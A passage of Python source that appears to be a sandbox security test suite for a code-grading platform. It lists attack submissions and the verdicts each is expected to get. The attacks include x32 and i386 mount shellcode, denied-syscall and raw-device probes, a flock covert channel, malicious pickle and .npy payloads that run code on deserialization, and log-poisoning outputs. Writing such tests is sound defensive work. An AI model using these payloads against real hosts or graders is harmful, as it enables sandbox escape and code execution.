    Attack(
        "x32-abi-mount",
        """
import ctypes, os
def answer():
    print("ran:__MARK__")
    libc = ctypes.CDLL(None, use_errno=True)
    result = libc.syscall(0x40000000 | 165, b"none", b"/work", b"tmpfs", 0, None)
    print("x32 mount:", result, os.strerror(ctypes.get_errno()))
    return 1729 if result == 0 else 0
""",
        verdicts=(*VIOLATION, "failed"),  # killed by the filter, or refused (kernels without x32)
    ),
    Attack(
        "i386-int-0x80-mount",
        """
import ctypes, mmap
# push rbx; mov eax, 21 (i386 mount); xor ebx/ecx/edx/esi/edi; int 0x80; pop rbx; ret
CODE = bytes.fromhex("53b81500000031db31c931d231f631ffcd805bc3")
def answer():
    print("ran:__MARK__")
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(CODE)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    print("i386 mount:", result)
    return 1729 if result == 0 else 0
""",
        verdicts=(*VIOLATION, "failed"),  # killed as a foreign architecture (or no ia32 emulation)
    ),
    Attack(
        "denied-syscalls-io-uring-keyctl-flock",
        """
import ctypes, fcntl, os
def answer():
    print("ran:__MARK__")
    libc = ctypes.CDLL(None, use_errno=True)
    params = ctypes.create_string_buffer(120)
    calls = {
        "io_uring_setup": lambda: libc.syscall(425, 8, params),
        "add_key": lambda: libc.syscall(248, b"user", b"huashen", b"x", 1, -2),
        "keyctl": lambda: libc.syscall(250, 0, -3, 1),
        "open_by_handle_at": lambda: libc.syscall(304, -100, params, 0),
    }
    succeeded = []
    for name, call in calls.items():
        result = call()
        print(name, result, os.strerror(ctypes.get_errno()))
        if result >= 0:
            succeeded.append(name)
    shared = os.open("/usr/bin/env", os.O_RDONLY)
    try:
        fcntl.flock(shared, fcntl.LOCK_EX | fcntl.LOCK_NB)  # a covert channel to a concurrent job
        succeeded.append("flock")
    except OSError as error:
        print("flock", error)
    print("succeeded:", succeeded)
    return 1729 if succeeded else 0
""",
    ),
    Attack(
        "raw-device-nodes",
        """
import os
def answer():
    print("ran:__MARK__")
    print(sorted(os.listdir("/dev")))
    for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/nvme0n1",
                 "/dev/vsock", "/dev/vhost-vsock", "/dev/fuse", "/dev/nvidiactl", "/dev/net/tun"):
        try:
            os.close(os.open(path, os.O_RDONLY))
            print("opened", path)
            return 1729
        except OSError as error:
            print("blocked:", path, error)
    return 0
""",
    ),
]

# ---------------------------------------------------------------------------------------------------
# Pickles where the host reads models and arrays. If the host ever unpickled one, the payload would
# create a file on the host and produce 1729.

_PAYLOAD = """
class Evil:
    def __reduce__(self):
        return (eval, ("__import__('pathlib').Path('/tmp/huashen-pwned-__MARK__').touch() or 1729",))
"""

PICKLES = [
    Attack(
        "torch-save-model-with-reduce",
        _PAYLOAD
        + """
import os, torch
def answer():
    print("ran:__MARK__")
    os.makedirs("/work/out/arrays", exist_ok=True)
    model = {"state_dict": torch.nn.Linear(2, 1).state_dict(), "answer": Evil()}
    for path in ("/work/out/model.pt", "/work/out/arrays/answer.npy", "/work/out/observations.json"):
        torch.save(model, path)
    os._exit(0)
""",
        trial=ARRAYS,
        host_paths=("/tmp/huashen-pwned-__MARK__",),
    ),
    Attack(
        "npy-object-array",
        _PAYLOAD
        + """
import os, numpy
def answer():
    print("ran:__MARK__")
    os.makedirs("/work/out/arrays", exist_ok=True)
    numpy.save("/work/out/arrays/answer.npy", numpy.array([Evil()], dtype=object), allow_pickle=True)
    os._exit(0)
""",
        trial=ARRAYS,
        host_paths=("/tmp/huashen-pwned-__MARK__",),
    ),
    Attack(
        "npy-header-with-code",
        """
import os
def answer():
    print("ran:__MARK__")
    header = ("{'descr': __import__('pathlib').Path('/tmp/huashen-pwned-__MARK__').touch() or '<i8', "
              "'fortran_order': False, 'shape': (1,), }")
    header += " " * ((64 - (10 + len(header) + 1) % 64) % 64) + "\\n"
    data = b"\\x93NUMPY\\x01\\x00" + len(header).to_bytes(2, "little") + header.encode()
    os.makedirs("/work/out/arrays", exist_ok=True)
    with open("/work/out/arrays/answer.npy", "wb") as f:
        f.write(data + (1729).to_bytes(8, "little"))
    os._exit(0)
""",
        trial=ARRAYS,
        host_paths=("/tmp/huashen-pwned-__MARK__",),
    ),
]

# ---------------------------------------------------------------------------------------------------
# Log poisoning: output the grader or the platform cannot carry. The verdict must still be recorded
# (and be the student's, not an internal error); a result that can never be stored leaves the
# submission running until the reaper, an hour later.

POISON = [
    Attack(
        "nul-bytes-in-stdout-and-stderr",
        """
import sys
def answer():
    print("ran:__MARK__")
    print("before\\x00after")
    sys.stderr.write("\\x00\\n")
    return 0
""",
        wait_seconds=15,  # a normal result takes under a second; a poisoned one never comes
    ),
    Attack(
        "nul-byte-in-the-traceback",
        """
print("ran:__MARK__")
raise ValueError("bad\\x00byte")
""",
        verdicts=("error",),
        wait_seconds=15,
    ),
    Attack(
        "nan-and-infinity-metrics-on-fd-3",
        """
import os
def answer():
    print("ran:__MARK__")
    os.write(3, b'{"step": NaN, "metrics": {"loss": NaN, "accuracy": Infinity}}\\n')
    return 0
""",
        wait_seconds=15,  # a normal result takes under a second; a poisoned one never comes
    ),
    Attack(
        "lone-surrogate-metric-on-fd-3",
        """
import os
def answer():
    print("ran:__MARK__")
    os.write(3, b'{"step": 1, "metrics": {"loss": "\\\\ud800"}}\\n')
    return 0
""",
        wait_seconds=15,  # a normal result takes under a second; a poisoned one never comes
    ),
]

GROUPS = {
    "network": NETWORK,
    "secrets": SECRETS,
    "writes": WRITES,
    "out-files": OUT_FILES,
    "forging": FORGING,
    "resources": RESOURCES,
    "escape": ESCAPE,
    "pickles": PICKLES,
    "log-poisoning": POISON,
}
